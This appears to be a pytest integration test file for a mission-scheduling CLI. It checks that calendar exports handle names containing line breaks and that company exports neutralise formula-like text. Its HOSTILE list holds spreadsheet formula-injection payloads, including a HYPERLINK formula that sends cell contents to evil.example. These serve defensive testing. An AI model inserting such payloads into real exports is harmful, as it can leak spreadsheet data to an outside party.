"""Exports from the command line with names typed carelessly or with hostile intent (issue 11, items 4 and 5):
calendars of a mission whose names hold line breaks are written and read back, and `export companies` writes
texts that a spreadsheet would evaluate as text."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from icalendar import Calendar
from icalendar.parser import unescape_backslash
from openpyxl import load_workbook
from sqlalchemy import update
from typer.testing import CliRunner

from kakehashi.adapters.db.engine import make_engine
from kakehashi.adapters.db.models.planning import Mission, MissionParticipant
from kakehashi.entrypoints.cli.main import app

pytestmark = pytest.mark.integration

MISSION = "Spring\r\nmission \\ 2026; Tel Aviv, Haifa"
PARTY = "Mitsuba\r\nMobility \\ R&D; Japan, Inc."
CLEAN_TITLE = "Spring mission \\ 2026; Tel Aviv, Haifa – Mitsuba Mobility \\ R&D; Japan, Inc."
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Nova")', "+1", "@SUM(1)", "-2+3"]


def _instance() -> dict[str, Any]:
    return {
        "name": MISSION,
        "slots": [{"id": "s1", "day": "2026-03-09", "start": "09:00", "end": "10:00"}],
        "venues": [{"id": "tlv", "name": "Tel Aviv Hub", "capacity": 1}],
        "participants": [
            {"id": "mitsuba", "name": PARTY, "role": "delegate"},
            {"id": "roadsense", "name": "RoadSense", "role": "host", "venue": "tlv"},
        ],
        "requests": [{"delegate": "mitsuba", "host": "roadsense", "weight": 1, "mandatory": True}],
    }


@pytest.fixture
def runner() -> CliRunner:
    return CliRunner()


@pytest.fixture
def instance(tmp_path: Path) -> Path:
    path = tmp_path / "instance.json"
    path.write_text(json.dumps(_instance(), ensure_ascii=False), encoding="utf-8")
    return path


def _title(path: Path) -> str:
    return str(unescape_backslash(str(Calendar.from_ical(path.read_bytes())["X-WR-CALNAME"])))


def _planned(runner: CliRunner, url: str, instance: Path) -> str:
    mission = runner.invoke(app, ["--db", url, "schedule", "import", str(instance)]).stdout.strip()
    solved = runner.invoke(app, ["--db", url, "schedule", "run", mission, "--time-limit", "5"])
    assert solved.exit_code == 0, solved.output
    return mission


def test_schedule_agenda_of_a_stored_mission_with_line_breaks_in_names(
    runner: CliRunner, sqlite_url: str, instance: Path, tmp_path: Path
) -> None:
    mission = _planned(runner, sqlite_url, instance)
    out = tmp_path / "mitsuba.ics"

    result = runner.invoke(
        app, ["--db", sqlite_url, "schedule", "agenda", mission, "-p", "mitsuba", "-o", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert _title(out) == CLEAN_TITLE


def test_schedule_agenda_from_files_with_line_breaks_in_names(
    runner: CliRunner, instance: Path, tmp_path: Path
) -> None:
    schedule, out = tmp_path / "schedule.json", tmp_path / "mitsuba.ics"
    runner.invoke(app, ["schedule", "solve", str(instance), "--out", str(schedule), "--time-limit", "5"])

    result = runner.invoke(
        app, ["schedule", "agenda", str(instance), "-s", str(schedule), "-p", "mitsuba", "-o", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert _title(out) == CLEAN_TITLE


def test_schedule_agenda_of_names_stored_before_the_cleaning_is_written(
    runner: CliRunner, sqlite_url: str, instance: Path, tmp_path: Path
) -> None:
    mission = _planned(runner, sqlite_url, instance)
    engine = make_engine(sqlite_url)
    with engine.begin() as connection:
        connection.execute(update(Mission).where(Mission.id == int(mission)).values(name=MISSION))
        connection.execute(
            update(MissionParticipant).where(MissionParticipant.key == "mitsuba").values(name=PARTY)
        )
    engine.dispose()
    agenda, grid = tmp_path / "mitsuba.ics", tmp_path / "all.ics"

    one = runner.invoke(
        app, ["--db", sqlite_url, "schedule", "agenda", mission, "-p", "mitsuba", "-o", str(agenda)]
    )
    every = runner.invoke(app, ["--db", sqlite_url, "schedule", "grid", mission, "-o", str(grid)])

    assert (one.exit_code, every.exit_code) == (0, 0), one.output + every.output
    assert _title(agenda) == f"{MISSION} – {PARTY}".replace("\r\n", "\n")
    assert _title(grid) == MISSION.replace("\r\n", "\n")


def _import_hostile_companies(runner: CliRunner, url: str, tmp_path: Path) -> None:
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name", "name_en", "country", "city"])
        for i, text in enumerate(HOSTILE):
            writer.writerow([f"Startup {i}", text, "IL", "-Haifa"])
    result = runner.invoke(app, ["--db", url, "import", "companies", str(source), "--json"])
    assert result.exit_code == 0, result.output


def test_export_companies_csv_writes_formula_like_texts_with_a_quote_and_reimports_them(
    runner: CliRunner, sqlite_url: str, tmp_path: Path
) -> None:
    _import_hostile_companies(runner, sqlite_url, tmp_path)
    out = tmp_path / "x.csv"

    export = runner.invoke(app, ["--db", sqlite_url, "export", "companies", str(out)])
    back = runner.invoke(app, ["--db", sqlite_url, "import", "companies", str(out), "--json"])

    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = sorted(csv.DictReader(handle), key=lambda row: row["name"])
    assert export.exit_code == 0, export.output
    assert [row["name_en"] for row in rows] == ["'" + text for text in HOSTILE]
    assert {row["city"] for row in rows} == {"'-Haifa"}
    assert (back.exit_code, json.loads(back.stdout)["unchanged"]) == (0, len(HOSTILE))


def test_export_companies_xlsx_writes_formula_like_texts_as_text(
    runner: CliRunner, sqlite_url: str, tmp_path: Path
) -> None:
    _import_hostile_companies(runner, sqlite_url, tmp_path)
    out = tmp_path / "x.xlsx"

    export = runner.invoke(app, ["--db", sqlite_url, "export", "companies", str(out)])

    sheet = load_workbook(out)["companies"]
    column = [c.value for c in sheet[1]].index("name_en")
    cells = sorted((row[column] for row in sheet.iter_rows(min_row=2)), key=lambda c: HOSTILE.index(c.value))
    assert export.exit_code == 0, export.output
    assert [c.value for c in cells] == HOSTILE
    assert {(c.data_type, c.quotePrefix) for c in cells} == {("s", True)}
